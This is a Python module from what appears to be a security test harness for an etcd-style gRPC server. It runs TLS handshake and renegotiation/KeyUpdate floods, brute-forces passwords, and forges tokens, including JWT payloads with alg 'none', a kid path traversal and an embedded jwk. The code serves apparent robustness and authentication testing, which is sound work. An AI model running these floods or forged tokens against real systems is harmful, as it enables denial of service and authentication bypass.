"""Hostile peers of a TLS port, and those who guess passwords and forge tokens."""

import base64
import ctypes
import ctypes.util
import functools
import hashlib
import hmac
import json
import os
import random
import ssl
import time

import hpack

from attacks import attack, half_open
from harness import protos, raw_h2
from hostile import HEADERS, OPENING, PUT, Requests, replay, script

_RPC = protos.rpc
_AUTHENTICATE = "/etcdserverpb.Auth/Authenticate"
# Of the servers under attack.
USER, PASSWORD, JWT_SECRET = "root", "the right password", b"a secret of thirty-two bytes....."


# ---- Handshakes ----

@functools.lru_cache(None)
def client_hello(version=None):
    """The first flight of a client, as bytes."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if version:
        context.maximum_version = version
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class Plain:
    """The peer without its TLS: what it sends is all by hand."""

    def __init__(self, peer):
        self._peer = peer

    def connect(self, **options):
        return self._peer.plain(**options)

    def __getattr__(self, name):
        return getattr(self._peer, name)


for _name, _opening in {"nothing": b"", "half a ClientHello": client_hello()[:100], "a ClientHello": client_hello(),
                        "a record of 16 KiB that does not come": b"\x16\x03\x01\x40\x00" + bytes(100)}.items():
    attack("unbounded TLS handshakes", "5,000 half open: TLS, " + _name, ends=False, threads=1, listener="tls")(
        lambda peer, opening=_opening: half_open(Plain(peer), opening))


def hello_again(peer, hello):
    """ClientHello, then away: the server signs and forgets."""
    while not peer.over():
        links = []
        try:
            for _ in range(50):
                links.append(peer.plain())
                links[-1].sendall(hello)
            for link in links:
                link.recv(1)
        except OSError:
            pass
        for link in links:
            link.close()


attack("unbounded TLS handshakes", "a flood of handshakes, TLS 1.3", ends=False, listener="tls")(
    lambda peer: hello_again(peer, client_hello()))
attack("unbounded TLS handshakes", "a flood of handshakes, TLS 1.2", ends=False, listener="tls")(
    lambda peer: hello_again(peer, client_hello(ssl.TLSVersion.TLSv1_2)))


@attack("unbounded TLS handshakes", "a flood of what is no TLS", ends=False, listener="tls")
def no_tls(peer):
    replay(Plain(peer), os.urandom(20_000))


# ---- Renegotiation, key updates, early data: what Python's ssl does not offer ----

_TLS_1_2, _SET_MAX_VERSION, _UPDATE_REQUESTED = 0x0303, 124, 1


@functools.lru_cache(None)
def openssl():
    library = ctypes.CDLL(ctypes.util.find_library("ssl"))
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(library, name).restype = ctypes.c_void_p
    library.SSL_CTX_new.argtypes = library.SSL_new.argtypes = [ctypes.c_void_p]
    library.SSL_CTX_ctrl.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p]
    for name in ("SSL_connect", "SSL_do_handshake", "SSL_renegotiate", "SSL_free", "SSL_CTX_free"):
        getattr(library, name).argtypes = [ctypes.c_void_p]
    library.SSL_set_fd.argtypes = library.SSL_key_update.argtypes = [ctypes.c_void_p, ctypes.c_int]
    library.SSL_write.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
    return library


def handshake_by_hand(peer, again, newest=0):
    """Connections whose client does `again(library, ssl)` as long as that answers 1."""
    library = openssl()
    while not peer.over():
        with peer.plain() as link:
            link.setblocking(True)
            context = library.SSL_CTX_new(library.TLS_client_method())
            library.SSL_CTX_ctrl(context, _SET_MAX_VERSION, newest, None)
            connection = library.SSL_new(context)
            library.SSL_set_fd(connection, link.fileno())
            if library.SSL_connect(connection) == 1:
                library.SSL_write(connection, OPENING, len(OPENING))
                while not peer.over() and again(library, connection) == 1:
                    peer.note("again")
                peer.sent_away += not peer.over()
            library.SSL_free(connection)
            library.SSL_CTX_free(context)


@attack("TLS renegotiation / KeyUpdate flood", "a flood of key updates", listener="tls")
def key_updates(peer):
    def again(library, connection):
        return library.SSL_key_update(connection, _UPDATE_REQUESTED) and library.SSL_do_handshake(connection)
    handshake_by_hand(peer, again)


@attack("TLS renegotiation / KeyUpdate flood", "renegotiations of TLS 1.2", listener="tls")
def renegotiations(peer):
    def again(library, connection):
        return library.SSL_renegotiate(connection) and library.SSL_do_handshake(connection)
    handshake_by_hand(peer, again, _TLS_1_2)


# ---- Passwords and tokens ----

def statuses(peer, link, count, timeout_s=5):
    """The grpc-status of the next answers on the connection, `count` of them or those that come in time."""
    decoder, data, found = hpack.Decoder(), b"", []
    deadline = time.monotonic() + timeout_s
    while len(found) < count and time.monotonic() < deadline:
        link.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            part = link.recv(1 << 16)
        except TimeoutError:
            break
        if not part:
            break
        data += part
        while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
            size = 9 + int.from_bytes(data[:3], "big")
            if data[3] == HEADERS:
                fields = dict(decoder.decode(data[9:size]))
                if "grpc-status" in fields:
                    found.append(int(fields["grpc-status"]))
            data = data[size:]
    for status in found:
        peer.note(f"grpc-status {status}")
    return found


def guess(peer, user):
    """A thousand guesses a second and more, on one connection after the other."""
    while not peer.over():
        requests = Requests(_AUTHENTICATE)
        guesses = [_RPC.AuthenticateRequest(name=user(), password=f"guess {random.random()}").SerializeToString()
                   for _ in range(200)]
        at = iter(guesses)
        try:
            with peer.connect() as link:
                link.sendall(script(lambda stream: requests.call(stream, next(at)), len(guesses)))
                statuses(peer, link, len(guesses), 0.5)
        except OSError:
            peer.note("cut off")


attack("password brute force", "guesses of one user's password", ends=False, listener="auth")(
    lambda peer: guess(peer, lambda: USER))
attack("password brute force", "guesses of many users' passwords", ends=False, listener="auth")(
    lambda peer: guess(peer, lambda: f"user-{random.randrange(1_000_000)}"))


def try_tokens(peer, tokens):
    """Puts with each of them; the connection's answers go into the notes."""
    message = _RPC.PutRequest(key=b"forged", value=b"v").SerializeToString()
    requests, at = Requests(PUT), iter(tokens)

    def make(stream):
        block = requests.headers(stream, more=(hpack.NeverIndexedHeaderTuple("token", next(at)),))
        return block + raw_h2.frame(0, 1, stream, raw_h2.message_frame(message))
    with peer.connect() as link:
        link.sendall(script(make, len(tokens)))
        return statuses(peer, link, len(tokens), 10)


def log_in(target):
    """A token that is good."""
    from harness import client
    connection = client.Client(target)
    try:
        return connection.call("Auth.Authenticate", _RPC.AuthenticateRequest(name=USER, password=PASSWORD)).token
    finally:
        connection.close()


def flipped(token, count):
    """The token with one bit other, each time; bytes that no header may hold are left out."""
    found = []
    while len(found) < count:
        at, bit = random.randrange(len(token)), 1 << random.randrange(7)
        other = chr(ord(token[at]) ^ bit)
        if "!" <= other <= "~":
            found.append(token[:at] + other + token[at + 1:])
    return found


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(header, claims, secret=JWT_SECRET, digest=hashlib.sha256):
    signed = encoded(json.dumps(header).encode()) + "." + encoded(json.dumps(claims).encode())
    return signed + "." + encoded(hmac.new(secret, signed.encode(), digest).digest())


def forged_jwts(token):
    """Tokens that a careless server believes, made from a good one."""
    header, claims, signature = token.split(".")
    told = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
    good = {"alg": "HS256", "typ": "JWT"}
    past = dict(told, exp=int(time.time()) - 10)
    endless = {name: value for name, value in told.items() if name != "exp"}
    none = [f"{encoded(json.dumps({'alg': spelling, 'typ': 'JWT'}).encode())}.{claims}." + end
            for spelling in ("none", "None", "NONE", "nOnE", "") for end in ("", signature)]
    return none + [
        jwt({"alg": "HS512", "typ": "JWT"}, told, digest=hashlib.sha512), jwt({"alg": "RS256", "typ": "JWT"}, told),
        jwt(dict(good, kid="../../../../dev/null"), told, secret=b""), jwt(dict(good, kid="/dev/null"), told, secret=b"\0"),
        jwt(dict(good, jwk={"kty": "oct", "k": encoded(b"mine")}), told, secret=b"mine"), jwt(good, told, secret=b"guess"),
        jwt(good, past), jwt(good, endless), jwt(good, dict(told, log="another")), jwt(good, dict(told, username="")),
        jwt(good, dict(told, revision=0)),
        f"{header}.{claims}", f"{header}.{claims}.", f".{claims}.{signature}", f"{header}..{signature}", token + ".x", token + "="]


def forge(peer):
    token = log_in(peer.target)
    while True:
        try:
            try_tokens(peer, flipped(token, 500))
        except OSError:
            peer.sent_away += 1
        if peer.over():
            break


for _listener in ("auth", "jwt"):
    attack("token forgery", f"bit flips in a token, {'JWT' if _listener == 'jwt' else 'simple'}", ends=False,
           listener=_listener)(forge)
